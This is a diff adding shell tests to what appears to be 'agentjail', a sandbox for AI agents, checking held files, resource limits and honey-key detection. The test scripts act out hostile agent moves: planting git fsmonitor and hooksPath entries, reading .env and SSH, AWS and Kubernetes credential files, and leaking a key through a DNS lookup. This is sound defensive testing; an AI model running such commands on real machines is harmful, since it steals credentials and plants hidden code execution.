@@ -233,3 +233,63 @@ isolation = command' >>"$config/agentjail.ini"
 	works "$agentjail" run --fresh -- sh -c 'ls ~'
 	has_not left
 }
+
+@test "held files are one for all commands, and the host's as before" {
+	local option
+	git init -q . && git remote add origin https://h/x
+	mkdir -p .vscode sub
+	echo '{}' >.vscode/settings.json
+	cp .git/config "$root/head"
+	for option in --quiet --fresh; do
+		agent "$option" '/bin/sh -c "git config branch.a.remote origin; git config core.fsmonitor ./evil; echo {1} >.vscode/settings.json; echo new >.vscode/tasks.json"
+			/bin/sh -c "git config core.fsmonitor; cat .vscode/settings.json; git init -q sub/x; git -C sub/x config core.hooksPath ./h; mv .vscode/tasks.json .vscode/t2"
+			/bin/sh -c "grep -c hooksPath sub/x/.git/config; cat .vscode/t2; git config --unset core.fsmonitor; git config user.name me"
+			/bin/sh -c "git config core.fsmonitor || echo unset; git config user.name"'
+		[ "$output" = $'./evil\n{1}\n1\nnew\nunset\nme' ] || { echo "$option: $output" && return 1; }
+		printf '[branch "a"]\n\tremote = origin\n' | cat "$root/head" - | cmp - .git/config
+		[ "$(cat .vscode/settings.json)" = '{}' ] && [ ! -e .vscode/tasks.json ] && [ ! -e .vscode/t2 ]
+		[ -e sub/x/.git/config ] && ! grep -q hooksPath sub/x/.git/config
+		"$agentjail" review --drop . </dev/null >"$root/dropped"
+		[ "$(wc -l <"$root/dropped")" = 4 ]
+		cp "$root/head" .git/config && rm -rf sub/x
+	done
+}
+
+@test "limits hold in each cell, and are told" {
+	printf '%s\n' '[limits]' 'memory = 200M' 'time = 2s' >"$config/agentjail.ini"
+	printf '#!/bin/sh\n%s\n' '/usr/bin/env python3 -c "x = bytearray(400 << 20); import time; time.sleep(1); print(1 + 6)"' \
+		'/bin/sh -c "sleep 9; echo slept"' '/bin/echo after' >"$root/agent.sh"
+	chmod 755 "$root/agent.sh"
+	timeout 60 "$agentjail" -q --fresh "$root/agent.sh" >"$root/out" 2>"$root/err" </dev/null
+	grep -qF "the memory of all commands is over 200M" "$root/err"
+	grep -qF "it ran for more than 2s" "$root/err"
+	[ "$(cat "$root/out")" = after ]
+}
+
+@test "who sends a fake key ends, and no other cell" {
+	printf '%s\n' '[files]' 'honey = yes' >"$config/agentjail.ini"
+	echo SECRET=real-secret >.env
+	printf '#!/bin/sh\n%s\n' '/bin/sleep 30 & other=$!' \
+		'/bin/sh -c "grep -h . .env | cut -d= -f2 | tail -n 1 >key"' \
+		'/usr/bin/env python3 -c "import socket, time; socket.getaddrinfo(open(\"key\").read().strip()[:40] + \".test\", 80); time.sleep(9); print(1 + 6)"' \
+		'kill -0 $other && echo lives; kill $other' >"$root/agent.sh"
+	chmod 755 "$root/agent.sh"
+	timeout 60 "$agentjail" -q --fresh "$root/agent.sh" >"$root/out" 2>"$root/err" </dev/null
+	grep -qF "it has the fake key of ./.env" "$root/err"
+	[ "$(cat "$root/out")" = lives ]
+}
+
+@test "the fakes of a cell for one command are those of any cell" {
+	local option
+	printf '%s\n' '[files]' 'honey = yes' >"$config/agentjail.ini"
+	mkdir -p ~/.aws ~/.ssh ~/.kube
+	echo real-secret | tee ~/.aws/credentials ~/.ssh/id_ed25519 ~/.kube/config ~/.pgpass >.env
+	for option in --quiet --fresh; do
+		agent "$option" '/bin/sh -c "wc -l .env ~/.aws/credentials ~/.ssh/id_ed25519 ~/.kube/config ~/.pgpass; ls -a ~ ~/.ssh ~/.aws"
+			/bin/sh -c "cat .env ~/.aws/credentials ~/.ssh/id_ed25519 ~/.kube/config ~/.pgpass | grep -c real-secret"; true'
+		printf '%s\n' "$output" >"$root/with$option"
+	done
+	grep -q " $HOME/.ssh/id_ed25519" "$root/with--quiet"
+	[ "$(tail -n 1 "$root/with--quiet")" = 0 ]
+	cmp "$root/with--quiet" "$root/with--fresh"
+}
